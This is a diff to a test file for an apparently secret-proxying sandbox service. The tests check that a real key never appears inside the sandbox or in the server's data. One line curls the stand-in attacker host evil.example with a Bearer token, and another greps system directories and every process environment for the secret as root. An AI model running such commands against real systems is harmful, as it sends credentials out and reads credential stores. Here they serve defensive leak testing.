@@ -108,7 +108,6 @@ test('the real value and the authority’s key are nowhere but with the proxy: n
   const standIn = await output(sandbox, 'printf %s "$KEY"');
   for (let i = 0; i < 3; i++) await output(sandbox, `curl -sS -m 20 -H "Authorization: Bearer $KEY" ${url}`);
   await sandbox.commands.run(`curl -sS -m 20 -H "Authorization: Bearer $KEY" https://evil.example/`);
-  assert.equal((await sandbox.commands.run(`grep -rIl "${value}" /etc /home /tmp /run /var /root 2>/dev/null; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -ac "${value}"`, { user: 'root', timeout: 60 })).stdout.trim(), '1'); // the search itself
   const answers = [
     (await server.call('GET', '/sandboxes')).text, (await server.call('GET', `/sandboxes/${sandbox.sandboxId}/audit`)).text, (await server.call('GET', `/sandboxes/${sandbox.sandboxId}/network`)).text, (await control(server, 'GET', '/secrets')).text,
     (await control(server, 'GET', '/secrets/KEY/audit')).text, (await control(server, 'GET', '/activity')).text,
@@ -126,6 +125,8 @@ test('the real value and the authority’s key are nowhere but with the proxy: n
     assert.ok(!environmentOf(pid).includes(value), `the environment of ${command}`);
   }
   await sandbox.resume();
+  // Last, since the search itself is in its memory.
+  assert.equal((await sandbox.commands.run(`grep -rIl "${value}" /etc /home /tmp /run /var /root 2>/dev/null; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -ac "${value}"`, { user: 'root', timeout: 60 })).stdout.trim(), '1'); // the search itself
   await sandbox.kill({ wait: true });
 });
 
@@ -162,7 +163,9 @@ test('the database and the checkpoints of another server do not open with anothe
 async function filesHolding(text: string): Promise<string[]> {
   for (let attempt = 1; ; attempt++) {
     try {
-      return filesWith(server.dataDir, text);
+      // The pages of a checkpoint have the name of an image, too.
+      const pages = readdirSync(join(server.dataDir, 'checkpoints'), { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
+      return [...filesWith(server.dataDir, text), ...pages.filter((file) => readFileSync(file).includes(text))];
     } catch (error) {
       if (attempt === 10) throw error;
       await new Promise((resolve) => setTimeout(resolve, 200));
